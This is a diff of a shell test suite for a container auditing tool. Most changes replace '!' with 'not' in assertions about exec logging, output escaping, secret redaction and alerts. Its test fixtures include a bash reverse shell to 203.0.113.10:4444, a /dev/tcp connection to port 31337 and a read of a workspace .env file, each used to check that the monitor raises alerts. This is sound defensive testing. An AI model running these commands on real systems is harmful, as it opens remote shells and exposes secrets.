@@ -79,7 +79,7 @@ watcher_of() { # NAME: pid
 	within 60 has "$A/w2.jsonl" '.type == "exec" and .args == "/bin/true nr-'$((n - 1))'"'
 	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | grep -c '^/bin/true nr-' )" = "$n" ]
 	[ "$(jq -r 'select(.type == "exec") | .args' "$A/w2.jsonl" | sed -n 's/^.bin.true nr-//p' | sort -nu | wc -l)" = "$n" ]
-	! has "$A/w2.jsonl" '.msg == "source.lost"'
+	not has "$A/w2.jsonl" '.msg == "source.lost"'
 	coi audit verify w2
 	gone w2
 }
@@ -89,14 +89,14 @@ watcher_of() { # NAME: pid
 	inside w3 bash -c '/bin/echo "$(printf "a\033]0;title\007b\nnext \377\342\200\256")"'
 	inside w3 bash -c '/bin/true "$(printf %0120000d 7)" end' || true
 	within 10 has "$A/w3.jsonl" '.comm == "true" and .args_bytes > 120000'
-	! grep -qP '[\x00-\x08\x0e-\x1f\x7f]' "$A/w3.jsonl"
+	not grep -qP '[\x00-\x08\x0e-\x1f\x7f]' "$A/w3.jsonl"
 	grep -q 'a\\\\x1b\]0;title\\\\x07b\\\\x0anext \\\\xff' "$A/w3.jsonl"
 	coi audit w3 --format text >"$T/text"
-	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
+	not grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
 	# A secret in a command line is not in the record.
 	inside w3 /bin/true --password hunter2 TOKEN=hunter2
 	within 10 grep -q 'password' "$A/w3.jsonl"
-	! grep -q hunter2 "$A/w3.jsonl"
+	not grep -q hunter2 "$A/w3.jsonl"
 	gone w3
 }
 
@@ -107,8 +107,8 @@ watcher_of() { # NAME: pid
 	inside w5 /bin/true only-five
 	within 10 grep -q only-four "$A/w4.jsonl"
 	within 10 grep -q only-five "$A/w5.jsonl"
-	! grep -q only-five "$A/w4.jsonl"
-	! grep -q only-four "$A/w5.jsonl"
+	not grep -q only-five "$A/w4.jsonl"
+	not grep -q only-four "$A/w5.jsonl"
 	gone w4
 	gone w5
 }
@@ -197,7 +197,7 @@ frozen() {
 	inside o1 bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' 3>&- || true
 	within 10 has "$A/o1.jsonl" '.level == "critical" and .action == "alerted"'
 	running o1
-	! frozen o1
+	not frozen o1
 	gone o1
 }
 
@@ -212,7 +212,7 @@ frozen() {
 	within 10 has "$A/n1.jsonl" '.type == "net" and .peer == "10.9.9.9:80" and .state == "refused"'
 	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.private" and .evidence.network.connection.remote_addr == "10.9.9.9:80"'
 	within 10 has "$A/n1-nft.jsonl" '.level == "warning" and .rule == "network.metadata"'
-	! grep -q '127.0.0.1' "$A/n1-nft.jsonl"
+	not grep -q '127.0.0.1' "$A/n1-nft.jsonl"
 	inside n1 bash -c ': >/dev/tcp/203.0.113.10/31337' || true
 	within 10 has "$A/n1-nft.jsonl" '.level == "critical" and .rule == "network.control-port"'
 	coi audit verify n1
@@ -257,7 +257,7 @@ again_seen() { # it sees what is run from now on
 	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "exec" and .backend == "bpf"'
 	has "$A/p1.jsonl" '.msg == "source.start" and .source == "exec" and .backend == "poll" and (.raw | test("shorter"))'
 	has "$A/p1.jsonl" '.msg == "source.unavailable" and .source == "connect"'
-	! has "$A/p1.jsonl" '.msg == "source.start" and .source == "connect"'
+	not has "$A/p1.jsonl" '.msg == "source.start" and .source == "connect"'
 	inside p1 sleep 5
 	has "$A/p1.jsonl" '.type == "exec" and .args == "sleep 5"'
 	gone p1
@@ -268,7 +268,7 @@ again_seen() { # it sees what is run from now on
 	launch q1
 	inside q1 /bin/true x
 	[ -z "$(watcher_of q1)" ]
-	! has "$A/q1.jsonl" '.type == "exec"'
+	not has "$A/q1.jsonl" '.type == "exec"'
 	gone q1
 }
 
@@ -406,7 +406,7 @@ read_quietly() { # NAME FILE
 	inside m2 bash -c 'f=$1; : >"$f"' x /root/notes
 	inside m2 bash -c 'f=$1; : >"$f"' x /etc/motd
 	sleep 0.3
-	! grep -q '/root/notes\|/etc/motd' <(jq -r '.path // empty' "$A/m2.jsonl")
+	not grep -q '/root/notes\|/etc/motd' <(jq -r '.path // empty' "$A/m2.jsonl")
 	gone m2
 }
 
@@ -424,7 +424,7 @@ read_quietly() { # NAME FILE
 	name=$(basename "$(started)" .jsonl)
 	cat "$T/wsp/.env" >/dev/null
 	sleep 0.5
-	! grep -q '/workspace/.env' "$A/$name.jsonl"
+	not grep -q '/workspace/.env' "$A/$name.jsonl"
 	echo >&7
 	# Whose it is can be told while the process is there: on the host's file systems others open too.
 	within 10 has "$A/$name.jsonl" '.level == "warning" and .evidence.sensitive_file.path == "/workspace/.env"'
